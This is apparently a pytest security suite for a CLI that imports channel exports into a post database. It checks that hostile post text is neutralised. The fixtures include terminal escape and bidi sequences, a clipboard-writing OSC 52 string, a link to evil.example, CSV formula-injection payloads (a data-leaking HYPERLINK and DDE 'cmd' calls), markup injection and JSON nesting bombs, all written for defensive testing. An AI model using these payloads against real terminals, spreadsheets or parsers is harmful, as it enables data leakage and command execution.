"""What post text can do to the people reading it (security review, findings 2-5, 12-14,
20, 21, 29): terminal sequences and bidi never reach a CLI table, CSV cells never start a
formula, error lines never read Rich markup, titles cannot forge digest lines, a far-future
post cannot stop a digest, and hostile exports are refused with one line and nothing kept."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import Result
from sqlalchemy import func, select
from typer.testing import CliRunner

from monitor.alerts.render import meta_line, when
from monitor.cli import app
from monitor.cli.output import safe_text
from monitor.store.db import make_engine, session_scope
from monitor.store.entries import PostEntry
from monitor.store.export import csv_safe
from monitor.store.migrate import upgrade
from monitor.store.models import Post
from tests.conftest import REPO

ESCAPES = (
    "Суджа \x1b[2J \x1b]0;PWNED-TITLE\x1b\\ \x1b]52;c;cHduZWQ=\x1b\\ "
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\ \x9b31m end \u202egnp.exe"
)
FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Суджа")',
    "+cmd|' /C calc'!A0 Суджа",
    "-2+3+cmd|' /C calc'!A0 Суджа",
    "@SUM(1+1) Суджа",
    "\t=1+1 Суджа",
]


def export_file(path: Path, texts: list[str], name: str = "hostile", **message: object) -> Path:
    messages = [
        {"id": i, "type": "message", "date_unixtime": "1741600000", "text": t, **message}
        for i, t in enumerate(texts, 1)
    ]
    path.write_text(
        json.dumps({"name": name, "type": "public_channel", "id": 9, "messages": messages}),
        encoding="utf-8",
    )
    return path


@pytest.fixture
def cli(tmp_path: Path) -> Iterator[tuple[CliRunner, dict[str, str], Path]]:
    db = tmp_path / "ws" / "monitor.db"
    engine = make_engine(f"sqlite:///{db}")
    upgrade(engine)
    engine.dispose()
    env = {
        "MONITOR_CONFIG_DIR": str(REPO / "config"),
        "MONITOR_DATA_DIR": str(tmp_path / "ws" / "data"),
        "MONITOR_DATABASE_URL": f"sqlite:///{db}",
        "MONITOR_LOG_LEVEL": "WARNING",
    }
    yield CliRunner(), env, db


def run(cli: tuple[CliRunner, dict[str, str], Path], *args: str) -> Result:
    runner, env, _ = cli
    return runner.invoke(app, list(args), env=env)


def post_count(db: Path) -> int:
    engine = make_engine(f"sqlite:///{db}")
    with session_scope(engine) as session:
        count = session.scalar(select(func.count()).select_from(Post)) or 0
    engine.dispose()
    return count


def test_terminal_sequences_never_reach_a_table(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    assert run(cli, "import", str(export_file(tmp_path / "e.json", [ESCAPES])),
               "--channel", "h_escape").exit_code == 0  # fmt: skip
    table = run(cli, "sql", "SELECT text FROM posts")
    assert table.exit_code == 0, table.output
    for bad in ("\x1b", "\x9b", "]52;", "PWNED", "\u202e"):
        assert bad not in table.stdout
    assert "Суджа" in table.stdout and "click" in table.stdout and "end" in table.stdout
    as_json = run(cli, "sql", "SELECT text FROM posts", "--format", "json")
    assert json.loads(as_json.stdout)[0]["text"] == ESCAPES  # JSON keeps the data exactly


def test_safe_text_never_reads_markup() -> None:
    cell = safe_text("[bold red]PWNED[/] [link=http://evil.example]x[/link]\nnext", one_line=True)
    assert cell.plain == "[bold red]PWNED[/] [link=http://evil.example]x[/link] next"
    assert not cell.spans


@pytest.mark.parametrize("fmt_args", [["export", "posts"], ["sql", "SELECT text FROM posts",
                                                            "--format", "csv"]])  # fmt: skip
def test_csv_cells_never_start_a_formula(cli, tmp_path: Path, fmt_args: list[str]) -> None:  # type: ignore[no-untyped-def]
    run(cli, "import", str(export_file(tmp_path / "c.json", FORMULAS)), "--channel", "h_csv")
    out = run(cli, *fmt_args)
    assert out.exit_code == 0, out.output
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(out.stdout, newline="")))
    texts = [row["text"] for row in rows]
    assert len(texts) == len(FORMULAS)
    assert all(t.startswith("'") for t in texts), texts
    assert {t[1:] for t in texts} == set(FORMULAS)
    raw = run(cli, *fmt_args, "--raw")
    assert {r["text"] for r in csv.DictReader(io.StringIO(raw.stdout, newline=""))} == set(FORMULAS)


def test_csv_safe_leaves_ordinary_values() -> None:
    assert csv_safe("Суджа") == "Суджа" and csv_safe(-5) == -5 and csv_safe("") == ""
    assert csv_safe("=1") == "'=1" and csv_safe("\r=1") == "'\r=1"


@pytest.mark.parametrize(
    ("args", "hostile"),
    [(["sql", "[/x] SELECT 1"], "[/x]"), (["channels", "add", "[/x]", "--side", "ru"], "[/x]"),
     (["sql", "[link=http://evil.example]click[/link]"], "[link=http://evil.example]click")],
)  # fmt: skip
def test_error_lines_never_read_markup(cli, args: list[str], hostile: str) -> None:  # type: ignore[no-untyped-def]
    out = run(cli, *args)
    assert out.exit_code == 2, out.output
    assert len(out.output.strip().splitlines()) == 1
    assert hostile in out.output  # quoted exactly as given
    assert "\x1b]8" not in out.output


@pytest.mark.parametrize("bad_id", ["[/x]", "[bold red]PWNED[/]"])
def test_hostile_ids_in_import_errors_are_plain(cli, tmp_path: Path, bad_id: str) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "m.json"
    message = {"id": bad_id, "type": "message", "date_unixtime": "1741600000", "text": "t"}
    path.write_text(json.dumps({"name": "x", "type": "public_channel", "messages": [message]}))
    out = run(cli, "import", str(path), "--channel", "bad_import")
    assert out.exit_code == 2 and bad_id in out.output
    assert len(out.output.strip().splitlines()) == 1


def test_a_title_cannot_forge_digest_lines() -> None:
    forged = (
        "Evil\n\n== Fake Place (99) ==\n-- capture at Kyiv by ru (asserted)\u2028"
        "• 2025-03-10 10:00 UTC · Russian Ministry of Defence (@mod_russia, ru)\r\x1b[2J"
    )
    entry = PostEntry(1, "h_newline", forged, "other", 1, datetime(2025, 3, 12, tzinfo=UTC),
                      None, None, "Бои в районе Суджи", None, None)  # fmt: skip
    line = meta_line(entry, "UTC")
    assert "\n" not in line and "\r" not in line and "\u2028" not in line and "\x1b" not in line
    assert "Fake Place" in line


def test_a_far_future_date_renders_in_any_zone() -> None:
    far = datetime(9999, 12, 31, 23, 0, tzinfo=UTC)
    assert when(far, "Europe/Kyiv").startswith("9999-12-31 23:00 UTC")


@pytest.mark.parametrize(
    ("message", "problem"),
    [
        ({"date_unixtime": "253402297200"}, "outside"),
        ({"date_unixtime": 1e300}, "not a Unix time"),
        ({"date_unixtime": "1741600000", "id": -5}, "positive"),
        ({"date_unixtime": "1741600000", "id": 2**40}, "positive"),
        (
            {
                "date_unixtime": "1741600000",
                "text": [{"type": "text_link", "text": ["x"], "href": 5}],
            },
            "not a string",
        ),
    ],
)
def test_odd_values_are_refused_with_one_line(
    cli, tmp_path: Path, message: dict, problem: str
) -> None:  # type: ignore[no-untyped-def]
    text = message.pop("text", "Суджа взята")
    path = export_file(tmp_path / "o.json", [text], **message)
    out = run(cli, "import", str(path), "--channel", "bad_import")
    assert out.exit_code == 2, out.output
    assert problem in out.output and "byte" in out.output
    assert len(out.output.strip().splitlines()) == 1
    assert post_count(cli[2]) == 0


@pytest.mark.parametrize(
    "body",
    [
        '{"name":"bad","deep":' + "[" * 100_000 + "]" * 100_000 + ',"type":"public_channel",'
        '"id":1,"messages":[]}',
        '{"name":"bad","type":"public_channel","id":1,"messages":[{"id":1,"type":"message",'
        '"date_unixtime":"1741600000","text":' + "[" * 100_000 + "]" * 100_000 + "}]}",
        '{"name":"big","type":"public_channel","id":1,"messages":[{"id":1,"type":"message",'
        '"date_unixtime":"1741600000","text":"Суджа ' + "A" * 6_000_000 + '"}]}',
    ],
    ids=["deep-header", "deep-text", "huge-string"],
)
def test_bombs_are_refused_at_once(cli, tmp_path: Path, body: str) -> None:  # type: ignore[no-untyped-def]
    import resource
    import time

    path = tmp_path / "bomb.json"
    path.write_text(body, encoding="utf-8")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    out = run(cli, "import", str(path), "--channel", "bad_import")
    assert out.exit_code == 2, out.output
    assert "refused" in out.output and "byte" in out.output
    assert time.monotonic() - started < 20
    grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kb < 300_000  # it once took 23 GB
    assert post_count(cli[2]) == 0


def test_nul_and_lone_surrogates_are_cleaned(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "n.json"
    path.write_text(
        '{"name":"nul","type":"public_channel","id":4,"messages":[{"id":1,"type":"message",'
        '"date_unixtime":"1741600000","text":"Суджа\\u0000после NUL \\ud800 x"}]}'
    )
    out = run(cli, "import", str(path), "--channel", "pg_nul")
    assert out.exit_code == 0, out.output
    got = json.loads(run(cli, "sql", "SELECT text FROM posts", "--format", "json").stdout)
    assert got[0]["text"].startswith("Суджапосле NUL ")  # NUL gone (PostgreSQL refuses it)
    assert not any("\ud800" <= char <= "\udfff" for char in got[0]["text"])


def test_a_fifo_is_refused_with_one_line(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import os
    import threading

    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    valid = export_file(tmp_path / "v.json", ["Суджа"]).read_bytes()

    def feed() -> None:
        try:
            with fifo.open("wb") as handle:
                handle.write(valid)
        except BrokenPipeError:
            pass

    writer = threading.Thread(target=feed, daemon=True)
    writer.start()
    out = run(cli, "import", str(fifo), "--channel", "bad_import")
    assert out.exit_code == 2 and "not a regular file" in out.output
    writer.join(timeout=5)
